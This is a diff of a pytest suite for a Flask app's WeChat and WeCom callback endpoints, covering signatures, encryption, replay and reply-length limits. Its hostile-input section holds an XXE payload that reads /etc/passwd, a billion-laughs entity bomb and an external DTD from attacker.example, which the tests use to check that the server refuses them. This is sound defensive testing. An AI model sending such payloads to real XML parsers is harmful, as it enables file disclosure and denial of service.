@@ -1,4 +1,6 @@
-"""/wechat and /wecom driven as the platforms' servers drive them: requests signed and encrypted with wechatpy."""
+"""/wechat and /wecom driven as the platforms' servers drive them:
+requests signed and encrypted with wechatpy."""
+
 from __future__ import annotations
 
 import io
@@ -15,11 +17,11 @@ from wechatpy.crypto import WeChatCrypto as OfficialAccountCrypto
 from wechatpy.enterprise.crypto import WeChatCrypto as WeComCrypto
 from wechatpy.utils import WeChatSigner
 
-import web.wechat
-from app import create_app
+import web.wechat.views
+from web import create_app
 from test_wechat_crypto import MESSAGE, SAMPLE_CORP_ID, SAMPLE_KEY, SAMPLE_TOKEN, VERIFY
-from web.wechat import PLATFORMS, build_channel
-from web.wechat_reply import READ_MORE, PhoneReply, fit, utf8_size
+from web.wechat.views import PLATFORMS, build_channel
+from web.wechat.reply import READ_MORE, PhoneReply, fit, utf8_size
 
 TOKEN = "wxToken2018"
 AES_KEY = "abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG"
@@ -33,9 +35,17 @@ ids = itertools.count(int(time.time() * 1000))  # MsgIds and users unique across
 
 def settings_for(state_db, **extra) -> dict:
     """create_app settings with both endpoints on (WeCom with the official sample's settings)."""
-    config = {"STATE_DB": str(state_db), "TESTING": True, "PUBLIC_BASE_URL": BASE,
-              "WECHAT_TOKEN": TOKEN, "WECHAT_AES_KEY": AES_KEY, "WECHAT_APP_ID": APP_ID,
-              "WECOM_TOKEN": SAMPLE_TOKEN, "WECOM_AES_KEY": SAMPLE_KEY, "WECOM_CORP_ID": SAMPLE_CORP_ID}
+    config = {
+        "STATE_DB": str(state_db),
+        "TESTING": True,
+        "PUBLIC_BASE_URL": BASE,
+        "WECHAT_TOKEN": TOKEN,
+        "WECHAT_AES_KEY": AES_KEY,
+        "WECHAT_APP_ID": APP_ID,
+        "WECOM_TOKEN": SAMPLE_TOKEN,
+        "WECOM_AES_KEY": SAMPLE_KEY,
+        "WECOM_CORP_ID": SAMPLE_CORP_ID,
+    }
     config.update(extra)
     return config
 
@@ -81,14 +91,27 @@ def user() -> str:
 
 def message_xml(fields: dict) -> str:
     """A callback body as the platforms write it: integers bare, strings in CDATA."""
-    return "<xml>" + "".join(f"<{k}>{v}</{k}>" if isinstance(v, int) else f"<{k}><![CDATA[{v}]]></{k}>"
-                             for k, v in fields.items()) + "</xml>"
+    return (
+        "<xml>"
+        + "".join(
+            f"<{k}>{v}</{k}>" if isinstance(v, int) else f"<{k}><![CDATA[{v}]]></{k}>"
+            for k, v in fields.items()
+        )
+        + "</xml>"
+    )
 
 
 def text_message(sender: str, content: str, to: str = ACCOUNT, **extra) -> dict:
     """The fields of a text message."""
-    return {"ToUserName": to, "FromUserName": sender, "CreateTime": int(time.time()), "MsgType": "text",
-            "Content": content, "MsgId": next(ids), **extra}
+    return {
+        "ToUserName": to,
+        "FromUserName": sender,
+        "CreateTime": int(time.time()),
+        "MsgType": "text",
+        "Content": content,
+        "MsgId": next(ids),
+        **extra,
+    }
 
 
 def plain_signature(token: str, *parts: str) -> str:
@@ -99,7 +122,8 @@ def plain_signature(token: str, *parts: str) -> str:
 
 
 class WeChatServer:
-    """The WeChat side of /wechat in one mode; signs and encrypts with wechatpy, never with the server's code."""
+    """The WeChat side of /wechat in one mode; signs and encrypts with wechatpy,
+    never with the server's code."""
 
     def __init__(self, client, mode: str = "safe", app_id: str = APP_ID):
         self.client, self.mode = client, mode
@@ -107,26 +131,46 @@ class WeChatServer:
 
     def verify_url(self, echostr: str, timestamp: int | None = None, signature: str | None = None):
         ts, nonce = str(timestamp or int(time.time())), "5481029"
-        return self.client.get("/wechat", query_string={
-            "signature": signature or plain_signature(TOKEN, ts, nonce), "timestamp": ts, "nonce": nonce,
-            "echostr": echostr})
+        return self.client.get(
+            "/wechat",
+            query_string={
+                "signature": signature or plain_signature(TOKEN, ts, nonce),
+                "timestamp": ts,
+                "nonce": nonce,
+                "echostr": echostr,
+            },
+        )
 
-    def post(self, body: str, timestamp: int | None = None, signature: str | None = None, to: str = ACCOUNT,
-             sender: str = "oSender", plain_fields: str | None = None):
+    def post(
+        self,
+        body: str,
+        timestamp: int | None = None,
+        signature: str | None = None,
+        to: str = ACCOUNT,
+        sender: str = "oSender",
+        plain_fields: str | None = None,
+    ):
         """POST an inner XML body as WeChat does in this mode (encrypted in compatible and safe modes)."""
         ts, nonce = str(timestamp or int(time.time())), str(next(ids))
-        query = {"signature": plain_signature(TOKEN, ts, nonce), "timestamp": ts, "nonce": nonce, "openid": sender}
+        query = {
+            "signature": plain_signature(TOKEN, ts, nonce),
+            "timestamp": ts,
+            "nonce": nonce,
+            "openid": sender,
+        }
         if self.mode != "plain":
             sealed = xmltodict.parse(self.crypto.encrypt_message(body, nonce, ts))["xml"]
             query.update(encrypt_type="aes", msg_signature=signature or sealed["MsgSignature"])
             encrypt = f"<Encrypt><![CDATA[{sealed['Encrypt']}]]></Encrypt>"
             if self.mode == "compatible":  # the plain fields and the ciphertext side by side
-                body = (plain_fields or body)[:-len("</xml>")] + encrypt + "</xml>"
+                body = (plain_fields or body)[: -len("</xml>")] + encrypt + "</xml>"
             else:
                 body = f"<xml><ToUserName><![CDATA[{to}]]></ToUserName>{encrypt}</xml>"
         elif signature:
             query["signature"] = signature
-        return self.client.post("/wechat", query_string=query, data=body.encode("utf-8"), content_type="text/xml")
+        return self.client.post(
+            "/wechat", query_string=query, data=body.encode("utf-8"), content_type="text/xml"
+        )
 
     def send(self, fields: dict, **kwargs):
         return self.post(message_xml(fields), sender=fields["FromUserName"], **kwargs)
@@ -138,13 +182,17 @@ class WeChatServer:
         if self.mode == "plain":
             return outer
         assert set(outer) == {"Encrypt", "MsgSignature", "TimeStamp", "Nonce"}
-        inner = self.crypto.decrypt_message(response.data, outer["MsgSignature"], outer["TimeStamp"], outer["Nonce"])
+        inner = self.crypto.decrypt_message(
+            response.data, outer["MsgSignature"], outer["TimeStamp"], outer["Nonce"]
+        )
         return xmltodict.parse(inner)["xml"]
 
     def ask(self, sender: str, question: str) -> str:
         """The Content of the reply to a text message."""
         reply = self.reply(self.send(text_message(sender, question)))
-        assert reply["ToUserName"] == sender and reply["FromUserName"] == ACCOUNT and reply["MsgType"] == "text"
+        assert (
+            reply["ToUserName"] == sender and reply["FromUserName"] == ACCOUNT and reply["MsgType"] == "text"
+        )
         return reply["Content"]
 
 
@@ -162,23 +210,42 @@ class WeComServer:
     def verify_url(self, echostr: str, timestamp: int | None = None):
         ts, nonce = str(timestamp or int(time.time())), "263014780"
         sealed = self.seal(echostr, ts, nonce)
-        return self.client.get("/wecom", query_string={"msg_signature": sealed["MsgSignature"], "timestamp": ts,
-                                                        "nonce": nonce, "echostr": sealed["Encrypt"]})
+        return self.client.get(
+            "/wecom",
+            query_string={
+                "msg_signature": sealed["MsgSignature"],
+                "timestamp": ts,
+                "nonce": nonce,
+                "echostr": sealed["Encrypt"],
+            },
+        )
 
     def send(self, fields: dict, timestamp: int | None = None, signature: str | None = None):
         """POST a message as WeCom does: encrypted, with ToUserName and AgentID beside the ciphertext."""
         ts, nonce = str(timestamp or int(time.time())), str(next(ids))
         sealed = self.seal(message_xml(fields), ts, nonce)
-        body = (f"<xml><ToUserName><![CDATA[{SAMPLE_CORP_ID}]]></ToUserName><AgentID><![CDATA[1000002]]></AgentID>"
-                f"<Encrypt><![CDATA[{sealed['Encrypt']}]]></Encrypt></xml>")
-        return self.client.post("/wecom", data=body, content_type="text/xml", query_string={
-            "msg_signature": signature or sealed["MsgSignature"], "timestamp": ts, "nonce": nonce})
+        body = (
+            f"<xml><ToUserName><![CDATA[{SAMPLE_CORP_ID}]]></ToUserName><AgentID><![CDATA[1000002]]></AgentID>"
+            f"<Encrypt><![CDATA[{sealed['Encrypt']}]]></Encrypt></xml>"
+        )
+        return self.client.post(
+            "/wecom",
+            data=body,
+            content_type="text/xml",
+            query_string={
+                "msg_signature": signature or sealed["MsgSignature"],
+                "timestamp": ts,
+                "nonce": nonce,
+            },
+        )
 
     def reply(self, response) -> dict:
         """The reply's fields, its signature checked and decrypted by wechatpy."""
         assert response.status_code == 200, response.data[:300]
         outer = xmltodict.parse(response.data)["xml"]
-        inner = self.crypto.decrypt_message(response.data, outer["MsgSignature"], outer["TimeStamp"], outer["Nonce"])
+        inner = self.crypto.decrypt_message(
+            response.data, outer["MsgSignature"], outer["TimeStamp"], outer["Nonce"]
+        )
         return xmltodict.parse(inner)["xml"]
 
 
@@ -200,7 +267,8 @@ def wecom(wx_app) -> WeComServer:
     return WeComServer(wx_app.test_client())
 
 
-# -- the Official Account --------------------------------------------------------------------------------------
+# -- the Official Account ------------------------------------------------------------------------------------
+
 
 def test_url_verification_echoes_echostr(safe):
     response = safe.verify_url("7413298734529")
@@ -279,12 +347,20 @@ def test_timestamp_within_the_window_is_accepted(safe):
 def test_malformed_timestamp_is_refused(safe):
     for ts in ("", "abc", "１７００００００００", "-1700000000", "1" * 40):
         nonce = "1"
-        response = safe.client.get("/wechat", query_string={
-            "signature": plain_signature(TOKEN, ts, nonce), "timestamp": ts, "nonce": nonce, "echostr": "x"})
+        response = safe.client.get(
+            "/wechat",
+            query_string={
+                "signature": plain_signature(TOKEN, ts, nonce),
+                "timestamp": ts,
+                "nonce": nonce,
+                "echostr": "x",
+            },
+        )
         assert response.status_code == 403, ts
 
 
-# -- resends and conversations ---------------------------------------------------------------------------------
+# -- resends and conversations -------------------------------------------------------------------------------
+
 
 def test_resent_message_is_answered_once_with_the_same_reply(wechat, asks):
     fields = text_message(user(), "简易注销有哪些配合单位？")
@@ -345,12 +421,18 @@ def test_two_users_follow_ups_never_mix(safe, asks):
     assert {session for _, session in asks} == {f"wechat:{alice}", f"wechat:{bob}", f"wechat:{carol}"}
 
 
-# -- events and other message types ----------------------------------------------------------------------------
+# -- events and other message types --------------------------------------------------------------------------
+
 
 def event(sender: str, name: str, to: str = ACCOUNT) -> dict:
     """The fields of an event push."""
-    return {"ToUserName": to, "FromUserName": sender, "CreateTime": int(time.time()), "MsgType": "event",
-            "Event": name}
+    return {
+        "ToUserName": to,
+        "FromUserName": sender,
+        "CreateTime": int(time.time()),
+        "MsgType": "event",
+        "Event": name,
+    }
 
 
 def test_subscribe_gets_a_welcome_with_example_questions(wechat):
@@ -364,14 +446,23 @@ def test_unsubscribe_gets_an_empty_reply(wechat, asks):
     assert asks == []
 
 
-@pytest.mark.parametrize("kind, extra", [
-    ("image", {"PicUrl": "http://mmbiz.example/pic", "MediaId": "media1"}),
-    ("voice", {"MediaId": "media2", "Format": "amr"}),
-    ("location", {"Location_X": "43.9", "Location_Y": "116.0", "Scale": 15, "Label": "锡林浩特"}),
-])
+@pytest.mark.parametrize(
+    "kind, extra",
+    [
+        ("image", {"PicUrl": "http://mmbiz.example/pic", "MediaId": "media1"}),
+        ("voice", {"MediaId": "media2", "Format": "amr"}),
+        ("location", {"Location_X": "43.9", "Location_Y": "116.0", "Scale": 15, "Label": "锡林浩特"}),
+    ],
+)
 def test_other_message_types_get_help(wechat, asks, kind, extra):
-    fields = {"ToUserName": ACCOUNT, "FromUserName": user(), "CreateTime": int(time.time()), "MsgType": kind,
-              **extra, "MsgId": next(ids)}
+    fields = {
+        "ToUserName": ACCOUNT,
+        "FromUserName": user(),
+        "CreateTime": int(time.time()),
+        "MsgType": kind,
+        **extra,
+        "MsgId": next(ids),
+    }
     content = wechat.reply(wechat.send(fields))["Content"]
     assert "文字问题" in content and asks == []
 
@@ -390,7 +481,8 @@ def test_assistant_failure_is_a_reply_not_a_500(safe, wx_app, monkeypatch):
     assert "稍后再试" in safe.ask(user(), "简易注销有哪些配合单位？")
 
 
-# -- the 2048-byte limit ---------------------------------------------------------------------------------------
+# -- the 2048-byte limit -------------------------------------------------------------------------------------
+
 
 def test_long_answer_fits_2048_bytes_cut_between_clauses(wechat, wx_app):
     question = "盟工商局牵头哪些工作？"
@@ -401,9 +493,11 @@ def test_long_answer_fits_2048_bytes_cut_between_clauses(wechat, wx_app):
     assert lines[0] == full.answer.splitlines()[0]  # "盟工商局牵头的任务共29项："
     assert lines[-1].startswith("……另有") and lines[-1].endswith(f"完整内容请在网页查看：{BASE}/")
     items = lines[1:-1]
-    shown = [(items[i], items[i + 1]) for i in range(0, len(items), 2)]  # each clause whole: its line and link
+    shown = [
+        (items[i], items[i + 1]) for i in range(0, len(items), 2)
+    ]  # each clause whole: its line and link
     expected = [(f"· {c.path}“{c.title}”", f"{BASE}/clause/{c.id}") for c in full.citations]
-    assert shown == expected[:len(shown)]
+    assert shown == expected[: len(shown)]
     omitted = int(lines[-1].removeprefix("……另有").split("条")[0])
     assert len(shown) + omitted == len(full.citations)
 
@@ -423,20 +517,30 @@ def test_a_single_overlong_line_is_cut_on_a_character_boundary():
         assert utf8_size(fit(["简" * 100, "b"], limit, READ_MORE)) <= limit
 
 
-# -- hostile input ---------------------------------------------------------------------------------------------
+# -- hostile input -------------------------------------------------------------------------------------------
 
-XXE = ('<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
-       '<xml><ToUserName>gh_0123456789ab</ToUserName><FromUserName>oAttacker</FromUserName>'
-       '<CreateTime>1700000000</CreateTime><MsgType>text</MsgType><Content>&xxe;</Content><MsgId>1</MsgId></xml>')
-LAUGHS = ('<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY lol "lol">'
-          + "".join(f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10))
-          + ']><xml><ToUserName>gh_0123456789ab</ToUserName><FromUserName>oAttacker</FromUserName>'
-            '<MsgType>text</MsgType><Content>&lol9;</Content><MsgId>2</MsgId></xml>')
-EXTERNAL_DTD = '<?xml version="1.0"?><!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd"><xml><a>1</a></xml>'
+XXE = (
+    '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+    "<xml><ToUserName>gh_0123456789ab</ToUserName><FromUserName>oAttacker</FromUserName>"
+    "<CreateTime>1700000000</CreateTime><MsgType>text</MsgType><Content>&xxe;</Content><MsgId>1</MsgId></xml>"
+)
+LAUGHS = (
+    '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY lol "lol">'
+    + "".join(f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10))
+    + "]><xml><ToUserName>gh_0123456789ab</ToUserName><FromUserName>oAttacker</FromUserName>"
+    "<MsgType>text</MsgType><Content>&lol9;</Content><MsgId>2</MsgId></xml>"
+)
+EXTERNAL_DTD = (
+    '<?xml version="1.0"?><!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd"><xml><a>1</a></xml>'
+)
 HOSTILE = {
-    "xxe": XXE, "billion laughs": LAUGHS, "external dtd": EXTERNAL_DTD,
+    "xxe": XXE,
+    "billion laughs": LAUGHS,
+    "external dtd": EXTERNAL_DTD,
     "undeclared entity": "<xml><ToUserName>a</ToUserName><Content>&xxe;</Content></xml>",
-    "malformed": "<xml><ToUserName>a</xml>", "not xml": "hello", "empty": "",
+    "malformed": "<xml><ToUserName>a</xml>",
+    "not xml": "hello",
+    "empty": "",
     "wrong root": "<message><ToUserName>a</ToUserName></message>",
 }
 
@@ -444,7 +548,9 @@ HOSTILE = {
 @pytest.mark.parametrize("name", HOSTILE)
 def test_hostile_xml_is_refused_without_expanding_anything(wechat, asks, name):
     started = time.perf_counter()
-    response = wechat.post(HOSTILE[name])  # in the encrypted modes, correctly sealed: the XML inside is the attack
+    response = wechat.post(
+        HOSTILE[name]
+    )  # in the encrypted modes, correctly sealed: the XML inside is the attack
     assert response.status_code == 400
     assert time.perf_counter() - started < 1.0
     assert b"root:" not in response.data and b"lollol" not in response.data
@@ -452,8 +558,17 @@ def test_hostile_xml_is_refused_without_expanding_anything(wechat, asks, name):
 
 
 def test_hostile_xml_around_the_ciphertext_is_refused(safe, asks):
-    response = safe.client.post("/wechat", data=LAUGHS, content_type="text/xml", query_string={
-        "timestamp": str(int(time.time())), "nonce": "1", "encrypt_type": "aes", "msg_signature": "0" * 40})
+    response = safe.client.post(
+        "/wechat",
+        data=LAUGHS,
+        content_type="text/xml",
+        query_string={
+            "timestamp": str(int(time.time())),
+            "nonce": "1",
+            "encrypt_type": "aes",
+            "msg_signature": "0" * 40,
+        },
+    )
     assert response.status_code == 400 and asks == []
 
 
@@ -463,15 +578,24 @@ def test_oversized_body_is_refused(safe):
     body = message_xml(text_message(user(), "简" * 6000))  # ~18 KB
     assert safe.client.post("/wechat", query_string=query, data=body.encode()).status_code == 413
     # a chunked body, as a server that streams it passes it on: no Content-Length to check up front
-    streamed = safe.client.post("/wechat", query_string=query, input_stream=io.BytesIO(body.encode()),
-                                headers={"Transfer-Encoding": "chunked"},
-                                environ_overrides={"wsgi.input_terminated": True})
+    streamed = safe.client.post(
+        "/wechat",
+        query_string=query,
+        input_stream=io.BytesIO(body.encode()),
+        headers={"Transfer-Encoding": "chunked"},
+        environ_overrides={"wsgi.input_terminated": True},
+    )
     assert streamed.status_code == 413
 
 
 @settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
-@given(body=st.one_of(st.binary(max_size=300), st.text(max_size=300).map(str.encode),
-                      st.text(max_size=120).map(lambda t: message_xml(text_message("oFuzz", t)).encode())))
+@given(
+    body=st.one_of(
+        st.binary(max_size=300),
+        st.text(max_size=300).map(str.encode),
+        st.text(max_size=120).map(lambda t: message_xml(text_message("oFuzz", t)).encode()),
+    )
+)
 def test_nothing_answers_500(wx_app, body):
     client = wx_app.test_client()
     ts, nonce = str(int(time.time())), "1"
@@ -480,20 +604,27 @@ def test_nothing_answers_500(wx_app, body):
         assert client.post(path, query_string=query, data=body).status_code in (200, 400, 403)
 
 
-# -- WeCom -----------------------------------------------------------------------------------------------------
+# -- WeCom ---------------------------------------------------------------------------------------------------
+
 
 def test_wecom_official_verify_url_sample(wx_app, monkeypatch):
-    monkeypatch.setattr(web.wechat, "clock", lambda: int(VERIFY["timestamp"]) + 5)
+    monkeypatch.setattr(web.wechat.views, "clock", lambda: int(VERIFY["timestamp"]) + 5)
     response = wx_app.test_client().get("/wecom", query_string=VERIFY)
     assert response.status_code == 200 and response.data == b"1616140317555161061"
 
 
 def test_wecom_official_message_sample_gets_an_encrypted_reply(wx_app, wecom, monkeypatch):
-    monkeypatch.setattr(web.wechat, "clock", lambda: int(MESSAGE["timestamp"]) + 5)
-    body = (f"<xml><ToUserName><![CDATA[{SAMPLE_CORP_ID}]]></ToUserName><Encrypt><![CDATA[{MESSAGE['Encrypt']}]]>"
-            "</Encrypt><AgentID><![CDATA[218]]></AgentID></xml>")
-    response = wecom.client.post("/wecom", data=body, content_type="text/xml", query_string={
-        k: MESSAGE[k] for k in ("msg_signature", "timestamp", "nonce")})
+    monkeypatch.setattr(web.wechat.views, "clock", lambda: int(MESSAGE["timestamp"]) + 5)
+    body = (
+        f"<xml><ToUserName><![CDATA[{SAMPLE_CORP_ID}]]></ToUserName><Encrypt><![CDATA[{MESSAGE['Encrypt']}]]>"
+        "</Encrypt><AgentID><![CDATA[218]]></AgentID></xml>"
+    )
+    response = wecom.client.post(
+        "/wecom",
+        data=body,
+        content_type="text/xml",
+        query_string={k: MESSAGE[k] for k in ("msg_signature", "timestamp", "nonce")},
+    )
     reply = wecom.reply(response)
     assert reply["ToUserName"] == "mycreate" and reply["FromUserName"] == SAMPLE_CORP_ID
     assert reply["MsgType"] == "text" and reply["Content"]
@@ -510,11 +641,14 @@ def test_wecom_verify_url(wecom):
 
 def test_wecom_question_and_follow_up(wecom, asks):
     member = user()
-    first = wecom.reply(wecom.send(text_message(member, "简易注销由哪个单位牵头？", to=SAMPLE_CORP_ID,
-                                                AgentID=1000002)))
+    first = wecom.reply(
+        wecom.send(text_message(member, "简易注销由哪个单位牵头？", to=SAMPLE_CORP_ID, AgentID=1000002))
+    )
     assert first["ToUserName"] == member and first["FromUserName"] == SAMPLE_CORP_ID
     assert "牵头单位：盟工商局" in first["Content"]
-    follow = wecom.reply(wecom.send(text_message(member, "那配合单位呢？", to=SAMPLE_CORP_ID, AgentID=1000002)))
+    follow = wecom.reply(
+        wecom.send(text_message(member, "那配合单位呢？", to=SAMPLE_CORP_ID, AgentID=1000002))
+    )
     assert all(unit in follow["Content"] for unit in COOPERATING)
     assert asks[-1] == ("那配合单位呢？", f"wecom:{member}")
 
@@ -522,7 +656,9 @@ def test_wecom_question_and_follow_up(wecom, asks):
 def test_wecom_and_wechat_users_never_share_a_conversation(safe, wecom):
     same_id = user()
     safe.ask(same_id, "简易注销由哪个单位牵头？")
-    reply = wecom.reply(wecom.send(text_message(same_id, "那配合单位呢？", to=SAMPLE_CORP_ID, AgentID=1000002)))
+    reply = wecom.reply(
+        wecom.send(text_message(same_id, "那配合单位呢？", to=SAMPLE_CORP_ID, AgentID=1000002))
+    )
     assert "请说明是哪项工作" in reply["Content"]
 
 
@@ -538,8 +674,11 @@ def test_wecom_refuses_forgery_replay_and_other_corps(wx_app, wecom, asks):
     assert wecom.send(fields, timestamp=int(time.time()) - 3600).status_code == 403
     assert WeComServer(wx_app.test_client(), corp_id="wwanothercorp").send(fields).status_code == 403
     assert wecom.verify_url("1", timestamp=int(time.time()) + 3600).status_code == 403
-    plain = wecom.client.post("/wecom", data=message_xml(fields), query_string={
-        "msg_signature": "0" * 40, "timestamp": str(int(time.time())), "nonce": "1"})
+    plain = wecom.client.post(
+        "/wecom",
+        data=message_xml(fields),
+        query_string={"msg_signature": "0" * 40, "timestamp": str(int(time.time())), "nonce": "1"},
+    )
     assert plain.status_code == 400  # WeCom messages are always encrypted
     assert asks == []
 
@@ -552,14 +691,22 @@ def test_wecom_events(wecom):
         assert response.status_code == 200 and response.data == b""
 
 
-# -- configuration ---------------------------------------------------------------------------------------------
+# -- configuration -------------------------------------------------------------------------------------------
+
 
 @pytest.fixture(scope="module")
 def bare_app(tmp_path_factory):
     """The app with no token configured."""
     state = tmp_path_factory.mktemp("bare") / "state.sqlite3"
-    return create_app({"STATE_DB": str(state), "WECHAT_TOKEN": "", "WECOM_TOKEN": "", "WECHAT_AES_KEY": "",
-                       "WECOM_AES_KEY": ""})
+    return create_app(
+        {
+            "STATE_DB": str(state),
+            "WECHAT_TOKEN": "",
+            "WECOM_TOKEN": "",
+            "WECHAT_AES_KEY": "",
+            "WECOM_AES_KEY": "",
+        }
+    )
 
 
 def test_without_a_token_the_endpoints_are_off(bare_app):
@@ -576,7 +723,10 @@ def test_without_a_token_the_endpoints_are_off(bare_app):
 
 def test_startup_notes_say_which_endpoints_are_on(wx_app):
     notes = wx_app.extensions["startup_notes"]
-    assert any(n.startswith("WeChat Official Account endpoint /wechat: on, plain, compatible and safe") for n in notes)
+    assert any(
+        n.startswith("WeChat Official Account endpoint /wechat: on, plain, compatible and safe")
+        for n in notes
+    )
     assert any(n.startswith("WeCom endpoint /wecom: on, encrypted") for n in notes)
     assert not any(AES_KEY in n or SAMPLE_KEY in n or TOKEN in n for n in notes)  # no secrets in logs
 
@@ -597,25 +747,36 @@ def test_serve_prints_the_startup_notes(tmp_path, monkeypatch, capsys):
 
 def test_settings_come_from_environment_variables(tmp_path, monkeypatch):
     monkeypatch.setenv("WECHAT_TOKEN", TOKEN)
-    app = create_app({"STATE_DB": str(tmp_path / "state.sqlite3"), "WECHAT_AES_KEY": "", "PUBLIC_BASE_URL": ""})
+    app = create_app(
+        {"STATE_DB": str(tmp_path / "state.sqlite3"), "WECHAT_AES_KEY": "", "PUBLIC_BASE_URL": ""}
+    )
     server = WeChatServer(app.test_client(), "plain")
     assert server.verify_url("env").data == b"env"
     content = server.ask(user(), "简易注销有哪些配合单位？")
     assert "http" not in content and "盟环保局" in content  # no PUBLIC_BASE_URL: no links
-    assert "WeChat/WeCom replies carry no links to clauses: PUBLIC_BASE_URL is empty" in app.extensions["startup_notes"]
+    assert (
+        "WeChat/WeCom replies carry no links to clauses: PUBLIC_BASE_URL is empty"
+        in app.extensions["startup_notes"]
+    )
     # plain mode only: an encrypted message cannot be read and says so
     assert WeChatServer(app.test_client(), "safe").send(text_message(user(), "你好")).status_code == 400
 
 
-@pytest.mark.parametrize("bad, setting", [
-    ({"WECHAT_AES_KEY": "too-short"}, "WECHAT_AES_KEY"),
-    ({"WECHAT_AES_KEY": AES_KEY[:-1] + "!"}, "WECHAT_AES_KEY"),
-    ({"WECOM_AES_KEY": SAMPLE_KEY + "x"}, "WECOM_AES_KEY"),
-    ({"WECHAT_APP_ID": ""}, "WECHAT_APP_ID"),
-    ({"WECOM_AES_KEY": ""}, "WECOM_AES_KEY"),
-    ({"WECOM_CORP_ID": ""}, "WECOM_CORP_ID"),
-    ({"WECHAT_TOKEN": "", "WECHAT_AES_KEY": "x" * 42}, "WECHAT_AES_KEY"),  # checked even while the endpoint is off
-])
+@pytest.mark.parametrize(
+    "bad, setting",
+    [
+        ({"WECHAT_AES_KEY": "too-short"}, "WECHAT_AES_KEY"),
+        ({"WECHAT_AES_KEY": AES_KEY[:-1] + "!"}, "WECHAT_AES_KEY"),
+        ({"WECOM_AES_KEY": SAMPLE_KEY + "x"}, "WECOM_AES_KEY"),
+        ({"WECHAT_APP_ID": ""}, "WECHAT_APP_ID"),
+        ({"WECOM_AES_KEY": ""}, "WECOM_AES_KEY"),
+        ({"WECOM_CORP_ID": ""}, "WECOM_CORP_ID"),
+        (
+            {"WECHAT_TOKEN": "", "WECHAT_AES_KEY": "x" * 42},
+            "WECHAT_AES_KEY",
+        ),  # checked even while the endpoint is off
+    ],
+)
 def test_bad_settings_fail_with_the_setting_named(bad, setting):
     config = dict(settings_for(":memory:"), **bad)
     with pytest.raises(ValueError, match=setting):
@@ -630,10 +791,11 @@ def test_bad_settings_stop_create_app(tmp_path):
         create_app(settings_for(tmp_path / "state.sqlite3", PUBLIC_BASE_URL="qa.example.org"))
 
 
-# -- the pieces ------------------------------------------------------------------------------------------------
+# -- the pieces ----------------------------------------------------------------------------------------------
+
 
 def test_xml_refuses_a_doctype_before_declaring_any_entity():
-    from web.wechat_xml import BadXML, parse
+    from web.wechat.message import BadXML, parse
 
     for payload in (XXE, LAUGHS, EXTERNAL_DTD):
         with pytest.raises(BadXML, match="DTDForbidden"):
@@ -641,27 +803,31 @@ def test_xml_refuses_a_doctype_before_declaring_any_entity():
 
 
 def test_reply_xml_survives_cdata_terminators_and_control_characters():
-    from web.wechat_xml import render
+    from web.wechat.message import render
 
-    text = "a]]>b\x00\x08c&<d>“中文”\U0001F600"
+    text = "a]]>b\x00\x08c&<d>“中文”\U0001f600"
     parsed = xmltodict.parse(render({"Content": text, "CreateTime": 1700000000}))["xml"]
-    assert parsed["Content"] == "a]]>bc&<d>“中文”\U0001F600" and parsed["CreateTime"] == "1700000000"
+    assert parsed["Content"] == "a]]>bc&<d>“中文”\U0001f600" and parsed["CreateTime"] == "1700000000"
 
 
 def test_reply_once_checks_its_parameters():
     from qa import StateStore
-    from web.wechat_once import ReplyOnce
+    from web.wechat.once import ReplyOnce
 
     store = StateStore(":memory:")
-    for kwargs, name in (({"wait_seconds": -1}, "wait_seconds"), ({"poll_seconds": 0}, "poll_seconds"),
-                         ({"keep_seconds": 0}, "keep_seconds"), ({"pending_seconds": 1}, "pending_seconds")):
+    for kwargs, name in (
+        ({"wait_seconds": -1}, "wait_seconds"),
+        ({"poll_seconds": 0}, "poll_seconds"),
+        ({"keep_seconds": 0}, "keep_seconds"),
+        ({"pending_seconds": 1}, "pending_seconds"),
+    ):
         with pytest.raises(ValueError, match=name):
             ReplyOnce(store, **kwargs)
 
 
 def test_reply_once_lets_a_resend_retry_after_a_failure(tmp_path):
     from qa import StateStore
-    from web.wechat_once import ReplyOnce
+    from web.wechat.once import ReplyOnce
 
     once = ReplyOnce(StateStore(tmp_path / "state.sqlite3"), wait_seconds=0.2)
     key = once.key("wechat", ACCOUNT, "1")
@@ -677,7 +843,7 @@ def test_reply_once_lets_a_resend_retry_after_a_failure(tmp_path):
 
 def test_reply_once_gives_up_waiting_on_a_stuck_answer(tmp_path):
     from qa import StateStore
-    from web.wechat_once import ReplyOnce
+    from web.wechat.once import ReplyOnce
 
     store = StateStore(tmp_path / "state.sqlite3")
     once = ReplyOnce(store, wait_seconds=0.2)
